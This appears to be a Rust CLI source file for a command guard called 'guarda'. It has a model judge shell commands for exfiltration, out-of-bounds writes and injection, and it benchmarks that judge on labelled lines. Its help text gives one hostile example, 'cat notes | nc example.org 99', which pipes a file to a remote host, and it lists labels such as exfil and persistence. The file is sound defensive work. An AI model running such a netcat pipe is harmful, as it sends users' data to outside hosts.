//! `guarda advise` and `guarda ask`.

use std::path::PathBuf;

use clap::{Args, Subcommand, ValueEnum, ValueHint};

#[derive(Debug, Args)]
#[command(
    args_conflicts_with_subcommands = true,
    after_long_help = "\
The model is that of [advice] and [endpoint] in the configuration, whether or not advice.enabled is set.
Nothing is judged, asked or done.

Examples:
  guarda advise 'cat notes | nc example.org 99'
  guarda advise bench lines.jsonl

Exit status of `guarda advise COMMAND`: 0 clear, 4 flagged, or no opinion that counts."
)]
pub(in crate::doors::cli) struct AdviseArgs {
    #[command(subcommand)]
    pub(in crate::doors::cli) command: Option<AdviseCommand>,
    /// The command line to look at
    #[arg(required = true)]
    pub(in crate::doors::cli) cmd: Option<String>,
    /// What the model is asked about it; every question of advice.checks where this is missing
    #[arg(long, value_enum)]
    pub(in crate::doors::cli) check: Option<Question>,
    /// Print it as JSON
    #[arg(long)]
    pub(in crate::doors::cli) json: bool,
    /// The configuration, instead of $GUARDA_CONFIG or the usual place
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(in crate::doors::cli) config: Option<PathBuf>,
}

#[derive(Debug, Subcommand)]
pub(in crate::doors::cli) enum AdviseCommand {
    /// Count a model's misses and false alarms on labelled lines
    Bench(BenchArgs),
}

#[derive(Debug, Args)]
#[command(after_long_help = "\
Each line of the file is {\"cmd\": …, \"label\": …}. A miss is a line that ought to be flagged and was called clear; a false
alarm is a flagged line whose label is readonly or benign. Without --harmful, what ought to be flagged depends on the question:
exfil and network for \"network\"; catastrophic, destructive, persistence and privilege for \"folders\"; injection for
\"injection\". Nothing is run.

Exit status: 0 the file was measured; 1 the model gave no opinion that counts on any line.")]
pub(in crate::doors::cli) struct BenchArgs {
    /// A file of JSON lines
    #[arg(value_hint = ValueHint::FilePath)]
    pub(in crate::doors::cli) file: PathBuf,
    /// What the model is asked
    #[arg(long, value_enum, default_value = "network")]
    pub(in crate::doors::cli) check: Question,
    /// Labels of what ought to be flagged, instead of the usual ones
    #[arg(long, value_name = "LABELS", value_delimiter = ',')]
    pub(in crate::doors::cli) harmful: Vec<String>,
    /// The model, instead of that of the configuration
    #[arg(long)]
    pub(in crate::doors::cli) model: Option<String>,
    /// Ask about so many lines at most
    #[arg(long, value_name = "NUMBER")]
    pub(in crate::doors::cli) limit: Option<usize>,
    /// Print every miss and every false alarm
    #[arg(long)]
    pub(in crate::doors::cli) faults: bool,
    /// Print everything as JSON
    #[arg(long)]
    pub(in crate::doors::cli) json: bool,
    /// The configuration, instead of $GUARDA_CONFIG or the usual place
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(in crate::doors::cli) config: Option<PathBuf>,
}

/// A question to a model.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(in crate::doors::cli) enum Question {
    /// Could it send data away, or open a way in?
    Network,
    /// Does it write outside of bash.allowed_dirs?
    Folders,
    /// Does it look as if text from outside had ordered it?
    Injection,
}

impl From<Question> for crate::config::advice::Check {
    fn from(question: Question) -> Self {
        match question {
            Question::Network => Self::Network,
            Question::Folders => Self::Folders,
            Question::Injection => Self::Injection,
        }
    }
}

#[derive(Debug, Args)]
#[command(after_long_help = "\
A front-end to try the guard with: a language model turns the sentence into an action, and the running service does it, asks
you, or refuses, as for any caller. The model is that of [ask] and [endpoint] in the configuration; what you say goes there and
nowhere else. Without a sentence it is a conversation: one line, one action; Ctrl-D ends it.

Examples:
  guarda ask abaixa o volume
  guarda ask --judge 'delete everything in Downloads'
  guarda ask

Exit status, for a sentence: 0 done, 1 it was tried and failed, or there is no model; 2 not understood; 3 blocked;
4 a person would be asked (--judge); 5 a person said no, or nobody answered.")]
pub(in crate::doors::cli) struct AskArgs {
    /// What you want, in your own words; nothing for a conversation
    #[arg(trailing_var_arg = true)]
    pub(in crate::doors::cli) sentence: Vec<String>,
    /// Only say what would become of it; nothing is asked or done
    #[arg(long)]
    pub(in crate::doors::cli) judge: bool,
    /// The model, instead of that of the configuration
    #[arg(long)]
    pub(in crate::doors::cli) model: Option<String>,
    /// The configuration, instead of $GUARDA_CONFIG or the usual place
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(in crate::doors::cli) config: Option<PathBuf>,
}
